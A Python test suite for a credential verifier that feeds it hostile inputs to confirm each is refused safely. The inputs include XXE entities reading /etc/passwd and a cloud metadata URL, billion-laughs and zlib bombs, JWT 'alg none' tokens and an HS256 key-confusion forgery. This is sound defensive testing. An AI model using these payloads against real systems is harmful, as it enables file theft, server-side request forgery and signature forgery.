"""Bad input: every hostile or broken input gives "not verified" or "could not decide" with a
plain-language reason, and never a crash, a hang, or a network fetch that was not asked for.

Every case runs with a fetcher that records each URL and refuses it, so the test can assert that
nothing was fetched (or, where the credential names a URL it needs, that only that URL was asked
for, and only through the injected fetcher). Instead of a wall-clock limit (project rule: none in
tests), each verification runs under a work budget: the number of Python function calls, about
50,000 for an ordinary credential. A case that blows the budget fails at once, so a hang shows up
as a failure rather than as a stuck test run.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import io
import json
import struct
import sys
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from types import FrameType
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from PIL import Image

from issuer.crypto.keys import did_key, did_key_method, ed25519_from_seed, multikey
from issuer.crypto.signing import sign_data_integrity
from tests.vectors import VECTORS, load_json
from verifier import Outcome, Report, Verdict, verify_credential
from verifier.baking import KEYWORD, bake_png, bake_svg, read_svg
from verifier.errors import FetchError
from verifier.fetch import HttpFetcher, MappingFetcher

NOW = datetime(2026, 6, 1, tzinfo=UTC)
EXAMPLE = Path(__file__).resolve().parents[2] / "docs" / "examples" / "leading-change.json"
LEADING_CHANGE: dict[str, Any] = json.loads(EXAMPLE.read_text("utf-8"))
SIMPLE: dict[str, Any] = load_json("1edtech-validator/simple.json")
RS256_TOKEN = (VECTORS / "1edtech-validator/extracted/simple-jwt.png.jwt").read_text().strip()

METADATA = "http://169.254.169.254/latest"
WORK_BUDGET = 5_000_000  # Python function calls; an ordinary verification needs ~50,000
KEY = ed25519_from_seed(bytes(range(32)))


# --- the recording world ---------------------------------------------------------------------


class RecordingFetcher:
    """Records every URL; answers from ``table`` and refuses everything else."""

    def __init__(self, table: Mapping[str, bytes] | None = None) -> None:
        self.table = dict(table or {})
        self.urls: list[str] = []

    def __call__(self, url: str) -> bytes:
        self.urls.append(url)
        if url in self.table:
            return self.table[url]
        raise FetchError(url, "network access is disabled in this test")


class WorkBudgetExceeded(BaseException):
    """Raised inside the verifier when it makes more calls than the budget allows.

    A ``BaseException``, so no ``except Exception`` in the verifier or its libraries swallows it.
    """


@contextmanager
def work_budget(calls: int = WORK_BUDGET) -> Iterator[None]:
    count = 0

    def profile(frame: FrameType, event: str, arg: object) -> None:
        nonlocal count
        if event == "call":
            count += 1
            if count > calls:
                raise WorkBudgetExceeded(f"more than {calls} Python calls")

    previous = sys.getprofile()
    sys.setprofile(profile)
    try:
        yield
    except WorkBudgetExceeded:
        pytest.fail(f"the verifier did not finish within {calls} Python calls: a hang")
    finally:
        sys.setprofile(previous)


def verify_recorded(
    source: Any, table: Mapping[str, bytes] | None = None, **kwargs: Any
) -> tuple[Report, list[str]]:
    """Verify with the recording fetcher (also used by the default key resolver)."""
    fetcher = RecordingFetcher(table)
    kwargs.setdefault("now", NOW)
    with work_budget():
        report = verify_credential(source, fetcher=fetcher, **kwargs)
    return report, fetcher.urls


def assert_human_reason(report: Report) -> None:
    reason = report.reason()
    assert isinstance(reason, str)
    assert reason.strip(), f"no reason for {report.verdict}: {report.to_dict()}"
    assert len(reason.split()) >= 3, f"not a sentence: {reason!r}"
    assert not reason.lstrip().startswith(("(", "[", "{", "<")), f"not a sentence: {reason!r}"
    assert "Traceback" not in reason


# --- building blocks -------------------------------------------------------------------------


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_json(value: Any) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def unb64url(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


RS256_HEADER: dict[str, Any] = json.loads(unb64url(RS256_TOKEN.split(".")[0]))
RS256_PAYLOAD_SEGMENT = RS256_TOKEN.split(".")[1]
RS256_SIGNATURE_SEGMENT = RS256_TOKEN.split(".")[2]


def simple_payload(**extra: Any) -> dict[str, Any]:
    """simple.json as a VC-JWT payload, by hand: the credential without its proof, plus claims."""
    credential = {key: value for key, value in SIMPLE.items() if key != "proof"}
    return {
        **credential,
        "iss": credential["issuer"]["id"],
        "jti": credential["id"],
        "sub": credential["credentialSubject"]["id"],
        "nbf": 1262304000,  # 2010-01-01T00:00:00Z, simple.json's validFrom
        **extra,
    }


def rs256_with_header(header: Any) -> str:
    """The real RS256 token's payload and signature under another header."""
    return f"{b64url_json(header)}.{RS256_PAYLOAD_SEGMENT}.{RS256_SIGNATURE_SEGMENT}"


def rs256_with_payload(payload: Any) -> str:
    return f"{RS256_TOKEN.split('.')[0]}.{b64url_json(payload)}.{RS256_SIGNATURE_SEGMENT}"


def hs256_confusion() -> str:
    """HS256 keyed with the issuer's *public* RSA key: the classic algorithm-confusion forgery."""
    public_pem = jwt.PyJWK.from_dict(RS256_HEADER["jwk"]).key.public_bytes(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
    )
    signed = f"{b64url_json({'alg': 'HS256', 'jwk': RS256_HEADER['jwk']})}.{RS256_PAYLOAD_SEGMENT}"
    mac = hmac.new(public_pem, signed.encode("ascii"), hashlib.sha256).digest()
    return f"{signed}.{b64url(mac)}"


def png_1x1() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    """A valid 1x1 PNG with one extra chunk right after IHDR (8-byte signature + 25-byte IHDR)."""
    png = png_1x1()
    return png[:33] + png_chunk(kind, data) + png[33:]


def png_with_itxt(text: bytes, *, compressed: bool = False) -> bytes:
    flag = b"\x01" if compressed else b"\x00"
    return png_with_chunk(b"iTXt", KEYWORD + b"\x00" + flag + b"\x00\x00\x00" + text)


SVG_OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" width="10" height="10">'
)


def svg_with_doctype(doctype: str, body: str) -> bytes:
    return f'<?xml version="1.0"?>\n<!DOCTYPE svg [{doctype}]>\n{SVG_OPEN}{body}</svg>'.encode()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return svg_with_doctype(
        "".join(entities), "<openbadges:credential>&lol9;</openbadges:credential>"
    )


def nested_dict(depth: int) -> dict[str, Any]:
    root: dict[str, Any] = {}
    node = root
    for _ in range(depth - 1):
        node["a"] = {}
        node = node["a"]
    return root


def cyclic_dict() -> dict[str, Any]:
    node: dict[str, Any] = {"@context": LEADING_CHANGE["@context"]}
    node["self"] = node
    return node


def edited(**changes: Any) -> Callable[[], dict[str, Any]]:
    """leading-change.json with top-level members replaced (so its signature no longer holds)."""

    def build() -> dict[str, Any]:
        credential = copy.deepcopy(LEADING_CHANGE)
        credential.update(changes)
        return credential

    return build


def with_subject(**changes: Any) -> Callable[[], dict[str, Any]]:
    def build() -> dict[str, Any]:
        credential = copy.deepcopy(LEADING_CHANGE)
        credential["credentialSubject"].update(changes)
        return credential

    return build


def in_proof(**changes: Any) -> Callable[[], dict[str, Any]]:
    """leading-change.json with members of its proof replaced."""

    def build() -> dict[str, Any]:
        credential = copy.deepcopy(LEADING_CHANGE)
        credential["proof"][0].update(changes)
        return credential

    return build


def as_json_text(build: Callable[[], dict[str, Any]]) -> Callable[[], str]:
    """The credential ``build`` makes, as JSON text (Python writes NaN and Infinity bare)."""
    return lambda: json.dumps(build())


def signed(
    change: Callable[[dict[str, Any]], None] | None = None,
    *,
    issuer: str | None = None,
    method: str | None = None,
) -> dict[str, Any]:
    """leading-change.json, edited by ``change``, re-signed by KEY (a did:key issuer by default)."""
    credential = copy.deepcopy(LEADING_CHANGE)
    credential.pop("proof")
    credential["issuer"]["id"] = issuer or did_key(KEY)
    if change is not None:
        change(credential)
    return sign_data_integrity(
        credential, KEY, method or did_key_method(KEY), created="2026-01-15T09:00:00Z"
    )


def status_entry(url: str, index: str = "7") -> dict[str, Any]:
    return {
        "id": f"{url}#{index}",
        "type": "BitstringStatusListEntry",
        "statusPurpose": "revocation",
        "statusListIndex": index,
        "statusListCredential": url,
    }


def with_status(url: str) -> Callable[[], dict[str, Any]]:
    def build() -> dict[str, Any]:
        return signed(lambda c: c.__setitem__("credentialStatus", status_entry(url)))

    return build


def self_referencing_status_list(url: str) -> bytes:
    """A status list whose own credentialStatus points at itself."""
    status_list = {
        "@context": ["https://www.w3.org/ns/credentials/v2"],
        "id": url,
        "type": ["VerifiableCredential", "BitstringStatusListCredential"],
        "issuer": did_key(KEY),
        "validFrom": "2026-01-01T00:00:00Z",
        "credentialSubject": {
            "id": f"{url}#list",
            "type": "BitstringStatusList",
            "statusPurpose": "revocation",
            "encodedList": "uH4sIAAAAAAAAA-3BMQEAAADCoPVPbQwfoAAAAAAAAAAAAAAAAAAAAIC3AYbSVKsAQAAA",
        },
        "credentialStatus": status_entry(url, "0"),
    }
    return json.dumps(status_list).encode()


def deep_status_list(url: str, depth: int) -> bytes:
    """A status list nested ``depth`` levels deep: fine for json.loads, too deep for anyone."""
    opening = '{"@context": ["https://www.w3.org/ns/credentials/v2"], "id": "' + url + '", "x": '
    return (opening + '{"a": ' * depth + "1" + "}" * depth + "}").encode()


def with_method(method: str) -> Callable[[], dict[str, Any]]:
    def build() -> dict[str, Any]:
        return signed(method=method)

    return build


# --- the cases -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[], Any]
    kwargs: dict[str, Any] = field(default_factory=dict)
    table: dict[str, bytes] = field(default_factory=dict)
    fetches: tuple[str, ...] = ()
    """The only URLs the verifier may ask the fetcher for (in this order): those the input names."""
    verdict: Verdict | None = None
    """The exact verdict, when it matters; otherwise anything but VERIFIED."""
    check: str | None = None
    """A check that must not pass (it failed or could not be decided)."""
    mentions: str | None = None
    """Something the reason must name."""


BIG_2MB = 2 * 1024 * 1024
BEYOND_DOUBLE = 10**400  # 401 digits: under Python's digit limit, over a double's range
VC_V2 = "https://www.w3.org/ns/credentials/v2"
DEEP_TEXT = 100_000
DEEP_OBJECT = '{"a": ' * DEEP_TEXT
DEEP_900 = b', "evidence": ' + b'{"a": ' * 900 + b"1" + b"}" * 900 + b"}"

CASES = [
    # JSON that is not a credential
    Case("malformed JSON text", lambda: '{"@context": ["https://www.w3.org/ns/cred', check="input"),
    Case("malformed JSON bytes", lambda: b'{"type": [1,,2]}', check="input"),
    Case("JSON array", lambda: "[1, 2, 3]", check="input"),
    Case("JSON array of a credential", lambda: json.dumps([LEADING_CHANGE]), check="input"),
    Case("JSON number", lambda: "42", check="input"),
    Case("JSON number as bytes", lambda: b"3.14", check="input"),
    Case("JSON string", lambda: '"a credential"', check="input"),
    Case("JSON null", lambda: "null", check="input"),
    Case("empty text", lambda: "", check="input"),
    Case("whitespace", lambda: " \n\t ", check="input"),
    Case("empty bytes", lambda: b"", check="input"),
    # encodings
    Case("non-UTF-8 bytes", lambda: b'\xff\xfe{"@context": []}', check="input"),
    Case("non-UTF-8 byte inside JSON", lambda: b'{"name": "caf\xe9"}', check="input"),
    Case("UTF-16 JSON", lambda: json.dumps(LEADING_CHANGE).encode("utf-16"), check="input"),
    Case("lone surrogate in a str", lambda: '{"name": "\ud800"}', check="input"),
    Case(
        "escaped lone surrogate in JSON",
        lambda: json.dumps(edited(name="Leading \ud800 Change")()),
    ),
    Case("integer with 5000 digits", lambda: '{"n": ' + "1" * 5000 + "}", check="input"),
    # not JSON, though Python's json reads and writes it
    Case(
        "NaN in a credential as JSON text",
        as_json_text(with_subject(creditsEarned=float("nan"))),
        check="input",
        mentions="NaN",
    ),
    Case(
        "Infinity in a credential as JSON bytes",
        lambda: as_json_text(with_subject(creditsEarned=float("inf")))().encode(),
        check="input",
        mentions="Infinity",
    ),
    Case(
        "-Infinity deep in a credential as JSON text",
        as_json_text(with_subject(result=[{"value": [1, float("-inf")]}])),
        check="input",
        mentions="-Infinity",
    ),
    Case(
        "1e400 in a credential as JSON text",
        lambda: json.dumps(LEADING_CHANGE).replace('"creditsEarned": 24', '"creditsEarned": 1e400'),
        check="input",
        mentions="1e400",
    ),
    Case("NaN in a dict", with_subject(creditsEarned=float("nan")), check="input"),
    Case("Infinity in a dict", with_subject(creditsEarned=float("inf")), check="input"),
    Case("a set in a dict", with_subject(creditsEarned={24}), check="input"),
    Case("an integer key in a dict", lambda: {**LEADING_CHANGE, 24: "hours"}, check="input"),
    # size
    Case(
        "over a small max_bytes (text)",
        lambda: json.dumps(LEADING_CHANGE),
        kwargs={"max_bytes": 256},
        check="input",
        mentions="256",
    ),
    Case(
        "over a small max_bytes (bytes)",
        lambda: EXAMPLE.read_bytes(),
        kwargs={"max_bytes": 1024},
        check="input",
        mentions="1024",
    ),
    Case(
        "over a small max_bytes (baked PNG)",
        lambda: bake_png(png_1x1(), json.dumps(LEADING_CHANGE)),
        kwargs={"max_bytes": 512},
        check="input",
    ),
    Case(
        "2 MB + 1 byte",
        lambda: b"{" + b" " * (BIG_2MB - 1) + b"}",
        check="input",
        mentions=str(BIG_2MB),
    ),
    # nesting
    Case("100000 levels of [", lambda: "[" * DEEP_TEXT, check="input"),
    Case("100000 levels of {", lambda: DEEP_OBJECT, check="input"),
    Case(
        "1000 levels of objects as text",
        lambda: '{"a": ' * 1000 + "{}" + "}" * 1000,
        check="input",
        mentions="64",
    ),
    Case("dict nested 1000 deep", lambda: nested_dict(1000), check="input", mentions="64"),
    Case("dict nested 65 deep", lambda: nested_dict(65), check="input", mentions="64"),
    Case("dict that contains itself", cyclic_dict, check="input"),
    # PNG
    Case("truncated PNG signature", lambda: png_1x1()[:12], check="input"),
    Case("truncated PNG", lambda: png_1x1()[:-6], check="input"),
    Case(
        "baked PNG cut inside the credential",
        lambda: bake_png(png_1x1(), json.dumps(LEADING_CHANGE))[:300],
        check="input",
    ),
    Case("PNG without the iTXt chunk", png_1x1, check="input", mentions="PNG"),
    Case(
        "PNG with the keyword in a tEXt chunk",
        lambda: png_with_chunk(b"tEXt", KEYWORD + b"\x00" + json.dumps(LEADING_CHANGE).encode()),
        check="input",
    ),
    Case("PNG iTXt text is garbage", lambda: png_with_itxt(b"\x01\x02 garbage }{"), check="input"),
    Case("PNG iTXt text is empty", lambda: png_with_itxt(b""), check="input"),
    Case("PNG iTXt text is not UTF-8", lambda: png_with_itxt(b'\xff{"a": 1}'), check="input"),
    Case(
        "PNG iTXt compressed flag on non-zlib data",
        lambda: png_with_itxt(b"this is not zlib data", compressed=True),
        check="input",
    ),
    Case(
        "PNG iTXt zlib bomb",
        lambda: png_with_itxt(zlib.compress(b" " * 50_000_000, 9), compressed=True),
        check="input",
    ),
    Case("PNG iTXt deeply nested", lambda: png_with_itxt(DEEP_OBJECT.encode()), check="input"),
    Case(
        "PNG iTXt is a URL (never fetched)",
        lambda: png_with_itxt(b"https://evil.example/credential.json"),
        check="input",
    ),
    Case(
        "PNG chunk length past the end",
        lambda: png_1x1()[:33] + struct.pack(">I", 0xFFFFFFF0) + b"iTXt" + b"x" * 16,
        check="input",
    ),
    # SVG
    Case(
        "SVG external entity (file)",
        lambda: svg_with_doctype(
            '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
            "<openbadges:credential>&xxe;</openbadges:credential>",
        ),
        check="input",
    ),
    Case(
        "SVG external entity (http)",
        lambda: svg_with_doctype(
            f'<!ENTITY xxe SYSTEM "{METADATA}/meta-data/">',
            "<openbadges:credential>&xxe;</openbadges:credential>",
        ),
        check="input",
    ),
    Case(
        "SVG external parameter entity",
        lambda: svg_with_doctype('<!ENTITY % dtd SYSTEM "https://evil.example/x.dtd"> %dtd;', ""),
        check="input",
    ),
    Case(
        "SVG external DTD",
        lambda: (
            '<?xml version="1.0"?><!DOCTYPE svg SYSTEM "https://evil.example/svg.dtd">'
            f"{SVG_OPEN}<openbadges:credential>&ext;</openbadges:credential></svg>"
        ).encode(),
        check="input",
    ),
    Case("SVG billion laughs", billion_laughs, check="input"),
    Case(
        "SVG quadratic blowup",
        lambda: svg_with_doctype(
            f'<!ENTITY a "{"a" * 50_000}">',
            f"<openbadges:credential>{'&a;' * 5_000}</openbadges:credential>",
        ),
        check="input",
    ),
    Case(
        "SVG not well-formed",
        lambda: f"{SVG_OPEN}<openbadges:credential><![CDATA[{{}}</svg>".encode(),
        check="input",
    ),
    Case(
        "SVG without the credential element",
        lambda: f'{SVG_OPEN}<rect width="10" height="10"/></svg>'.encode(),
        check="input",
        mentions="SVG",
    ),
    Case(
        "SVG without the credential element, as str",
        lambda: f'{SVG_OPEN}<rect width="10" height="10"/></svg>',
        check="input",
    ),
    Case("XML that is not an SVG", lambda: b"<html><body/></html>", check="input"),
    Case(
        "SVG XInclude (not processed)",
        lambda: (
            f'{SVG_OPEN[:-1]} xmlns:xi="http://www.w3.org/2001/XInclude"><openbadges:credential>'
            '<xi:include href="file:///etc/passwd" parse="text"/></openbadges:credential></svg>'
        ).encode(),
        check="input",
    ),
    Case(
        "SVG credential is a URL (never fetched)",
        lambda: (
            f'{SVG_OPEN}<openbadges:credential verify="https://evil.example/c"/></svg>'
        ).encode(),
        check="input",
    ),
    Case(
        "SVG credential deeply nested",
        lambda: (
            f"{SVG_OPEN}<openbadges:credential><![CDATA[{DEEP_OBJECT}]]>"
            "</openbadges:credential></svg>"
        ).encode(),
        check="input",
    ),
    # VC-JWT
    Case(
        "JWT alg none",
        lambda: f"{b64url_json({'alg': 'none'})}.{b64url_json(simple_payload())}.",
        check="proof",
        mentions="none",
    ),
    Case(
        "JWT alg NONE with a jwk",
        lambda: (
            f"{b64url_json({'alg': 'NONE', 'jwk': RS256_HEADER['jwk']})}"
            f".{b64url_json(simple_payload())}."
        ),
        check="proof",
    ),
    Case(
        "JWT alg HS256 keyed with the public key", hs256_confusion, check="proof", mentions="HS256"
    ),
    Case(
        "JWT alg HS256 even when the caller lists it",
        hs256_confusion,
        kwargs={"algorithms": ("RS256", "HS256")},
        check="proof",
    ),
    Case(
        "JWT RS256 when the caller allows only ES256",
        lambda: RS256_TOKEN,
        kwargs={"algorithms": ("ES256",)},
        check="proof",
        mentions="RS256",
    ),
    Case(
        "JWT alg is a list",
        lambda: rs256_with_header({**RS256_HEADER, "alg": ["RS256"]}),
        check="proof",
    ),
    Case("JWT with two parts", lambda: RS256_TOKEN.rsplit(".", 1)[0], check="input"),
    Case("JWT with four parts", lambda: RS256_TOKEN + ".AAAA", check="input"),
    Case("JWT of garbage base64url", lambda: "abc.def.ghi", check="input"),
    Case("JWT with invalid characters", lambda: "e30.!!!.$$$", check="input"),
    Case("JWT header is an array", lambda: rs256_with_header([1]), check="input"),
    Case("JWT payload is a number", lambda: rs256_with_payload(7), check="input"),
    Case(
        "JWT header with x5u (never fetched)",
        lambda: rs256_with_header({**RS256_HEADER, "x5u": "https://evil.example/x"}),
        check="proof",
        mentions="x5u",
    ),
    Case(
        "JWT header with jku and kid (never fetched)",
        lambda: rs256_with_header(
            {"alg": "RS256", "jku": "https://evil.example/jwks.json", "kid": "1"}
        ),
        check="proof",
        mentions="jku",
    ),
    Case(
        "JWT kid is an http metadata URL (never fetched)",
        lambda: rs256_with_header({"alg": "RS256", "kid": f"{METADATA}#key"}),
        check="proof",
    ),
    Case(
        "JWT kid is a did:web (fetched through the injected fetcher only)",
        lambda: rs256_with_header({"alg": "RS256", "kid": "did:web:evil.example#key-1"}),
        fetches=("https://evil.example/.well-known/did.json",),
        check="proof",
    ),
    Case(
        "JWT jwk with a private member",
        lambda: rs256_with_header({**RS256_HEADER, "jwk": {**RS256_HEADER["jwk"], "d": "AAAA"}}),
        check="proof",
    ),
    Case(
        "JWT header nested 100000 deep",
        lambda: f"{b64url(b'[' * DEEP_TEXT)}.{RS256_PAYLOAD_SEGMENT}.{RS256_SIGNATURE_SEGMENT}",
        check="input",
    ),
    Case(
        "JWT payload nested 100000 deep",
        lambda: f"{RS256_TOKEN.split('.')[0]}.{b64url(DEEP_OBJECT.encode())}.AAAA",
        check="input",
    ),
    Case(
        "JWT payload nested 900 deep",
        lambda: (
            f"{RS256_TOKEN.split('.')[0]}"
            f".{b64url(json.dumps(simple_payload())[:-1].encode() + DEEP_900)}.AAAA"
        ),
    ),
    Case("JWT exp is NaN", lambda: rs256_with_payload(simple_payload(exp=float("nan")))),
    Case("JWT exp is 1e300", lambda: rs256_with_payload(simple_payload(exp=1e300))),
    Case("JWT exp is 10**20", lambda: rs256_with_payload(simple_payload(exp=10**20))),
    Case("JWT type is a number", lambda: rs256_with_payload(simple_payload(type=5))),
    # credentials that are not what they claim
    Case("empty dict", dict, check="context"),
    Case("empty JSON object", lambda: "{}", check="context"),
    Case(
        "@context with an unknown URL (never fetched)",
        edited(
            **{"@context": [*LEADING_CHANGE["@context"], "https://evil.example/context.jsonld"]}
        ),
        check="context",
        mentions="https://evil.example/context.jsonld",
    ),
    Case(
        "@context is only an unknown URL (never fetched)",
        edited(**{"@context": "https://evil.example/context.jsonld"}),
        check="context",
    ),
    Case(
        "@context with an inline object",
        edited(**{"@context": [*LEADING_CHANGE["@context"], {"@vocab": "https://evil.example/#"}]}),
        check="context",
    ),
    Case(
        "@context with an inline @import (never fetched)",
        edited(
            **{
                "@context": [
                    *LEADING_CHANGE["@context"],
                    {"@import": "https://evil.example/context.jsonld"},
                ]
            }
        ),
        check="context",
    ),
    Case(
        "scoped @context with an unknown URL (never fetched)",
        with_subject(**{"@context": "https://evil.example/scoped.jsonld"}),
        check="context",
        mentions="https://evil.example/scoped.jsonld",
    ),
    # what PyLD fails on with a Python error rather than its own
    Case(
        "creditsEarned beyond a double's range",
        with_subject(creditsEarned=BEYOND_DOUBLE),
        check="context",
        mentions="double",
    ),
    Case(
        "a negative integer beyond a double's range, deep in a list",
        with_subject(result=[{"type": ["Result"], "value": [-BEYOND_DOUBLE]}]),
        check="context",
        mentions="double",
    ),
    Case(
        "an integer beyond a double's range, as JSON text",
        as_json_text(with_subject(creditsEarned=BEYOND_DOUBLE)),
        check="context",
        mentions="double",
    ),
    Case(
        "an integer beyond a double's range in the proof",
        in_proof(nonce=BEYOND_DOUBLE),
        check="proof",
    ),
    Case(
        "@context with an empty entry",
        edited(**{"@context": [*LEADING_CHANGE["@context"], ""]}),
        check="context",
        mentions="empty",
    ),
    Case(
        "@context [VCDM, empty string]",
        edited(**{"@context": [VC_V2, ""]}),
        check="context",
        mentions="empty",
    ),
    Case(
        "@context with a relative entry",
        edited(**{"@context": [*LEADING_CHANGE["@context"], "foo.json"]}),
        check="context",
        mentions="foo.json",
    ),
    Case("@context is an empty string", edited(**{"@context": ""}), check="context"),
    Case("@context is a relative URL", edited(**{"@context": "foo.json"}), check="context"),
    Case(
        "scoped @context that is relative",
        with_subject(**{"@context": "./scoped.json"}),
        check="context",
        mentions="relative",
    ),
    Case("scoped @context that is empty", with_subject(**{"@context": ""}), check="context"),
    Case("proof is a string", edited(proof="not a proof"), check="proof"),
    Case("proof is a list of numbers", edited(proof=[1, 2]), check="proof"),
    Case("proof is an empty list", edited(proof=[]), check="proof"),
    Case("no proof at all", lambda: {k: v for k, v in LEADING_CHANGE.items() if k != "proof"}),
    Case("type is a number", edited(type=5), check="type"),
    Case("type is null", edited(type=None), check="type"),
    Case("type is an object", edited(type={"a": 1}), check="type"),
    Case("issuer is a list", edited(issuer=["did:example:1"])),
    Case("credentialSubject is a string", edited(credentialSubject="me")),
    Case("validFrom is a number", edited(validFrom=20260101), check="validity"),
    Case("validFrom in year 1", edited(validFrom="0001-01-01T00:00:00Z")),
    Case("validUntil in year 9999", edited(validUntil="9999-12-31T23:59:59Z")),
    Case(
        "endorsementJwt that is not a JWT",
        edited(endorsementJwt=["not.a.jwt", "é.é.é", 5]),
    ),
    # what the credential asks to fetch goes to the injected fetcher, and nowhere else
    Case(
        "credentialStatus at a cloud metadata URL",
        with_status(METADATA),
        fetches=(METADATA,),
        verdict=Verdict.COULD_NOT_DECIDE,
        check="status",
    ),
    Case(
        "status list nested 100000 deep",
        with_status("https://status.example/1"),
        table={"https://status.example/1": b"[" * DEEP_TEXT},
        fetches=("https://status.example/1",),
        check="status",
    ),
    Case(
        "status list nested 900 deep",
        with_status("https://status.example/1"),
        table={"https://status.example/1": deep_status_list("https://status.example/1", 900)},
        fetches=("https://status.example/1",),
        check="status",
    ),
    Case(
        "status list with a 5000-digit integer",
        with_status("https://status.example/1"),
        table={"https://status.example/1": b'{"n": ' + b"9" * 5000 + b"}"},
        fetches=("https://status.example/1",),
        check="status",
    ),
    Case(
        "status list whose own status is itself",
        with_status("https://status.example/1"),
        table={
            "https://status.example/1": self_referencing_status_list("https://status.example/1")
        },
        fetches=("https://status.example/1",),
        check="status",
    ),
    Case(
        "verification method document nested 100000 deep",
        with_method("https://keys.example/key-1"),
        table={"https://keys.example/key-1": b"[" * DEEP_TEXT},
        fetches=("https://keys.example/key-1",),
        check="proof",
    ),
    Case(
        "DID document nested 100000 deep",
        with_method("did:web:keys.example#key-1"),
        table={"https://keys.example/.well-known/did.json": DEEP_OBJECT.encode()},
        fetches=("https://keys.example/.well-known/did.json",),
        check="proof",
    ),
    Case(
        "verification method document with a 5000-digit integer",
        with_method("https://keys.example/key-1"),
        table={"https://keys.example/key-1": b'{"n": ' + b"9" * 5000 + b"}"},
        fetches=("https://keys.example/key-1",),
        check="proof",
    ),
    # the input itself is a URL: fetched once, through the injected fetcher
    Case(
        "input is an https URL",
        lambda: "https://evil.example/credential.json",
        fetches=("https://evil.example/credential.json",),
        verdict=Verdict.COULD_NOT_DECIDE,
    ),
    Case(
        "input is a metadata URL",
        lambda: METADATA,
        fetches=(METADATA,),
        verdict=Verdict.COULD_NOT_DECIDE,
    ),
    Case(
        "input URL answers with another URL (not followed)",
        lambda: "https://evil.example/a",
        table={"https://evil.example/a": b"https://evil.example/b"},
        fetches=("https://evil.example/a",),
        check="input",
    ),
    Case(
        "input URL answers with 100000 levels of {",
        lambda: "https://evil.example/a",
        table={"https://evil.example/a": DEEP_OBJECT.encode()},
        fetches=("https://evil.example/a",),
        check="input",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_bad_input_is_refused_with_a_reason(case: Case) -> None:
    report, fetched = verify_recorded(case.build(), case.table, **case.kwargs)
    assert report.verdict is not Verdict.VERIFIED, report.to_dict()
    if case.verdict is not None:
        assert report.verdict is case.verdict, report.to_dict()
    assert_human_reason(report)
    assert fetched == list(case.fetches), f"unexpected network access: {fetched}"
    if case.check is not None:
        check = report.check(case.check)
        assert check is not None, f"no {case.check!r} check in {report.to_dict()}"
        assert check.outcome in (Outcome.FAILED, Outcome.UNKNOWN), check
    if case.mentions is not None:
        assert case.mentions.lower() in report.reason().lower(), report.reason()
    report.to_dict()  # the JSON form never fails either
    json.dumps(report.to_dict())


def test_the_recording_world_verifies_a_good_credential() -> None:
    """Control: the world the cases run in verifies a sound credential, offline and in budget."""
    for source in (LEADING_CHANGE, EXAMPLE.read_bytes(), signed()):
        report, fetched = verify_recorded(source)
        assert report.verdict is Verdict.VERIFIED, report.to_dict()
        assert fetched == []


def test_a_baked_png_and_svg_of_the_example_verify() -> None:
    """Control for the PNG and SVG cases: the same images with a sound credential verify."""
    text = json.dumps(LEADING_CHANGE)
    svg = f'{SVG_OPEN}<rect width="10" height="10"/></svg>'.encode()
    for image in (bake_png(png_1x1(), text), bake_svg(svg, text, is_jws=False)):
        report, fetched = verify_recorded(image)
        assert report.verdict is Verdict.VERIFIED, report.to_dict()
        assert fetched == []


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        (with_subject(creditsEarned=BEYOND_DOUBLE), "beyond the range of a double"),
        (edited(**{"@context": [VC_V2, ""]}), "empty"),
        (edited(**{"@context": [*LEADING_CHANGE["@context"], "foo.json"]}), "relative URL"),
        (edited(**{"@context": "foo.json"}), "relative URL"),
    ],
    ids=["10**400", "empty @context entry", "relative @context entry", "relative @context"],
)
def test_pyld_value_and_overflow_errors_are_failed_checks(
    build: Callable[[], dict[str, Any]], reason: str
) -> None:
    """Regression: PyLD raised ``OverflowError`` (``_is_numeric``) for an integer beyond a double,
    and ``ValueError`` for an empty or relative ``@context`` URL (the context check failed, then
    the proof check canonicalised again and the error escaped ``verify_credential``). Both checks
    now fail with a reason."""
    report, fetched = verify_recorded(build())
    assert report.verdict is Verdict.NOT_VERIFIED, report.to_dict()
    assert_human_reason(report)
    for name in ("context", "proof"):
        check = report.check(name)
        assert check is not None and check.outcome is Outcome.FAILED, report.to_dict()
    proof = report.check("proof")
    assert proof is not None and reason in proof.reason
    assert fetched == []


# --- cases that are not "bad" but must not crash either --------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        lambda c: c.__setitem__("validUntil", "9999-12-31T23:59:59Z"),
        lambda c: c.__setitem__("validFrom", "0001-01-01T00:00:00Z"),
    ],
    ids=["validUntil 9999-12-31T23:59:59Z", "validFrom 0001-01-01T00:00:00Z"],
)
def test_extreme_but_valid_dates_verify(change: Callable[[dict[str, Any]], None]) -> None:
    """'Never expires' written as the last representable instant is a valid credential."""
    report, fetched = verify_recorded(signed(change))
    assert report.verdict is Verdict.VERIFIED, report.to_dict()
    assert fetched == []


def test_baking_into_a_self_closing_svg_gives_a_readable_svg() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'
    baked = bake_svg(svg, json.dumps(LEADING_CHANGE), is_jws=False)
    assert json.loads(read_svg(baked)) == LEADING_CHANGE


# --- hangs -----------------------------------------------------------------------------------
